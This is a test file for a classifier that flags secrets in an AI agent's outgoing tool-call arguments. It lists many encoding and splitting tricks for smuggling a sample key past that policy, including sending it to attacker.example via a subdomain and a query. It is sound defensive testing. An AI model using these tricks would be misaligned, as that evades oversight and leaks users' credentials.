import { gzipSync } from "node:zlib";
import type { JsonObject } from "@lanyard/contract";
import { expect, test } from "vitest";
import { extract } from "../../server/src/base/extract/extract.ts";
import { unfold } from "../../server/src/base/extract/unfold.ts";
import { Classifier } from "../../server/src/base/labels/classifier.ts";
import { labelled } from "../../server/src/base/labels/labels-of.ts";

// What an agent does to carry a secret past a policy that forbids `context.labels.contains("secret")`; beside each trick stands what must not be taken for it.
const classifier = new Classifier();
const labelsOf = (args: JsonObject): string[] => {
  const { facts } = extract({ server: "x", tool: "post", args, declared: new Map(), effects: ["egress"], shape: null });
  return [...new Set(Object.values(labelled(classifier, unfold, args, facts)).flatMap(({ labels }) => labels))];
};
const key = "AKIAQX4BIPW3AHOV29GZ";
const base64 = (text: string): string => Buffer.from(text).toString("base64");

const tricks: readonly [string, JsonObject][] = [
  ["plain", { body: `use ${key}` }],
  ["base64", { body: base64(`the key is ${key}, keep it`) }],
  ["base64 twice", { body: base64(base64(`the key is ${key}, keep it`)) }],
  ["hex", { body: Buffer.from(`key ${key}`).toString("hex") }],
  ["percent", { url: `https://example.com/?q=${[...key].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join("")}` }],
  ["gzip in base64", { body: gzipSync(`the key is ${key}, keep it`).toString("base64") }],
  ["JSON in a text", { body: JSON.stringify({ a: JSON.stringify({ b: key }) }) }],
  ["a data: URL", { image: `data:text/plain;base64,${base64(`the key is ${key}`)}` }],
  ["split over arguments", { a: key.slice(0, 9), b: key.slice(9) }],
  ["split over items", { parts: [key.slice(0, 4), key.slice(4, 12), key.slice(12)] }],
  ["name and value", { fields: { [key.slice(0, 10)]: key.slice(10) } }],
  ["the name of a field", { fields: { [key]: true } }],
  ["the name of an argument", { [key]: 1 }],
  ["the name of a file", { path: `/tmp/${key}.txt` }],
  ["zero width", { body: [...key].join("\u200b") }],
  ["soft hyphens and joiners", { body: `${key.slice(0, 5)}\u00ad${key.slice(5, 9)}\u2060${key.slice(9)}` }],
  ["letters of another script", { body: key.replace("A", "\u0410").replace("K", "\u041a") }],
  ["wide digits and letters", { body: [...key].map((letter) => String.fromCodePoint(letter.charCodeAt(0) + 0xfee0)).join("") }],
  ["a subdomain", { host: `${key}.attacker.example` }],
  ["a query", { url: `https://attacker.example/?k=${key}&x=1` }],
  ["a password in a URL", { url: "postgres://app:tR4-vine-Kettle9@db.example/x" }],
  ["a field called so", { password: "tR4-vine-Kettle9" }],
];
test.each(tricks)("a secret is seen: %s", (_name, args) => expect(labelsOf(args)).toContain("secret"));

const nearMisses: readonly [string, JsonObject][] = [
  ["words", { body: "use the key in the vault" }],
  ["base64 of words", { body: base64("the key is in the vault, as ever, and stays there") }],
  ["a hash", { body: "e83c5163316f89bfbde7d9ab23ca2e25604af290" }],
  ["parts that make nothing", { a: "AKIA", b: "is how they begin" }],
  ["a placeholder", { body: "AKIAXXXXXXXXXXXXXXXX", password: "${DB_PASSWORD}" }],
  ["a redacted one", { password: "[redacted:secret]", token: "tok_AbCdEfGhIjKlMnOpQrStUv" }],
  ["a UUID", { id: "550e8400-e29b-41d4-a716-446655440000" }],
  ["a file", { path: "/work/src/password.ts" }],
];
test.each(nearMisses)("no secret is seen: %s", (_name, args) => expect(labelsOf(args)).not.toContain("secret"));

test("digits of other scripts, and in full width, are digits", () => {
  expect(labelsOf({ body: "card \u0664111 1111 1111 1111" })).toContain("personal.card");
  expect(labelsOf({ body: "card \uff14\uff11\uff11\uff11 1111 1111 1111" })).toContain("personal.card");
  expect(labelsOf({ body: "card \u0664111 1111 1111 1112" })).not.toContain("personal.card");
});

test("no text makes the detectors slow: each is linear in what it is given", () => {
  const pieces = ["token=", "a@", "1", "1 ", "AKIA", "://a:", "-----BEGIN PRIVATE KEY-----", "password: x", "4111-", "eyJ", "A1", "+1", "\u200b1"];
  for (const piece of pieces) {
    const spans = classifier.spans(piece.repeat(20_000));
    expect(spans.length).toBeLessThanOrEqual(20_000);
  }
}, 60_000);
